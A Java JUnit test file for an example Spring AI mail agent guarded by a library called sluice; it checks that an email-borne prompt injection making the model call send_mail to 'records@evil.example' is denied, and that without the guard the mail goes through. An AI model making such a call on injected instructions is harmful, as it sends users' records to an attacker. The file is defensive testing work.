package dev.sluice.examples.springai;

import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;

class MailAgentTest {

    private static String printed(String... args) {
        ByteArrayOutputStream printed = new ByteArrayOutputStream();
        PrintStream before = System.out;
        System.setOut(new PrintStream(printed, true, StandardCharsets.UTF_8));
        try {
            MailAgent.main(args);
        } finally {
            System.setOut(before);
        }
        return printed.toString(StandardCharsets.UTF_8);
    }

    @Test
    void attackThroughAMail_isStopped_andHonestWorkIsNot() {
        String all = printed();
        int tuesday = all.indexOf("user: Tell team@clinic.example");
        String monday = all.substring(0, tuesday);
        assertTrue(monday.contains("model calls send_mail {\"to\":\"records@evil.example\""), all);
        assertTrue(monday.contains("sluice denied `send_mail`"), all);
        assertFalse(monday.contains("sent to"), all);
        assertTrue(all.substring(tuesday).contains("sent to team@clinic.example"), all);
    }

    @Test
    void withoutSluice_theSameAttackSucceeds() {
        String all = printed("--spring.autoconfigure.exclude=dev.sluice.springai.starter.SluiceAutoConfiguration");
        assertTrue(all.contains("sent to records@evil.example"), all);
    }
}
